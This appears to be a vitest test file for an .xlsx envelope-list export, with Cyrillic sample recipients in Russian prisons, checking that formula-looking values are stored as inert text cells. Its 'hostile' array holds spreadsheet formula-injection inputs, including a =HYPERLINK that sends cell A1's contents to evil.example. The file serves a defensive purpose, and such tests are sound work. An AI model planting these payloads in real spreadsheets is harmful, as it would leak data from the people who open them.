import { beforeAll, describe, expect, it } from "vitest";
import { createI18n } from "../../src/messages/i18n.js";
import { renderEnvelopeList, type EnvelopeRow } from "../../src/media/envelope-list.js";
import { pdfLabelsFrom, type PdfLabels } from "../../src/media/pdf.js";
import { readSheet } from "./read-xlsx.js";

const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1;"жми");=1+1;x',
  "+7 (999) 123-45-67",
  "-2+3",
  "@SUM(A1:A2)",
  "\t=1+1",
  "a,=1+1;b",
  "<b>&amp;</b> \"кавычки\" 'апостроф'",
];

let labels: PdfLabels;

beforeAll(() => {
  const i18n = createI18n();
  labels = pdfLabelsFrom((key, vars) => i18n.t("ru", key, vars));
});

describe("renderEnvelopeList", () => {
  it("writes an .xlsx with a header and one text column per field, Cyrillic intact", async () => {
    const rows: EnvelopeRow[] = [
      { code: "L-7K3Q", recipient: { fullName: "Иванов Иван Иванович", birthYear: 1985, facility: "ФКУ ИК-2 УФСИН России по Республике Мордовия", postalAddress: "431130, Республика Мордовия, пос. Ударный, ул. Центральная, д. 1" } },
      { code: "0042", recipient: { fullName: "Сидоров Пётр", birthYear: 1979, facility: "СИЗО-1", postalAddress: "Москва,\nул. Матросская Тишина, 18" } },
    ];
    const xlsx = await renderEnvelopeList(rows, labels);
    expect(xlsx.subarray(0, 2).toString("latin1")).toBe("PK");
    const { rows: sheet, sheetName } = readSheet(xlsx);
    expect(sheetName).toBe("Конверты");
    expect(sheet.map((r) => r.map((c) => c.text))).toEqual([
      ["Код письма", "ФИО получателя", "Год рождения", "Учреждение", "Почтовый адрес"],
      ["L-7K3Q", "Иванов Иван Иванович", "1985", "ФКУ ИК-2 УФСИН России по Республике Мордовия", "431130, Республика Мордовия, пос. Ударный, ул. Центральная, д. 1"],
      // Leading zeros kept (a text cell, not a number); a line break becomes a space.
      ["0042", "Сидоров Пётр", "1979", "СИЗО-1", "Москва, ул. Матросская Тишина, 18"],
    ]);
    expect(sheet.flat().map((c) => c.ref.replace(/\d+$/, ""))).toEqual(Array.from({ length: 3 }, () => ["A", "B", "C", "D", "E"]).flat());
  });

  it("stores formula-looking values as plain text cells, whatever the separator they carry", async () => {
    const rows: EnvelopeRow[] = hostile.map((value, i) => ({
      code: value,
      recipient: { fullName: value, birthYear: 1980 + i, facility: value, postalAddress: value },
    }));
    const { rows: sheet } = readSheet(await renderEnvelopeList(rows, labels));
    expect(sheet).toHaveLength(hostile.length + 1);
    for (const row of sheet) {
      expect(row).toHaveLength(5);
      for (const cell of row) {
        // A shared-string cell is text to every spreadsheet; only an <f> element is evaluated.
        expect(cell.type).toBe("s");
        expect(cell.formula).toBe(false);
      }
    }
    // The values arrive as written (no apostrophe or other mark added), tabs cleaned to spaces.
    expect(sheet.slice(1).map((r) => r[3]?.text)).toEqual(hostile.map((v) => v.replace(/\t/g, " ").trim()));
  });
});
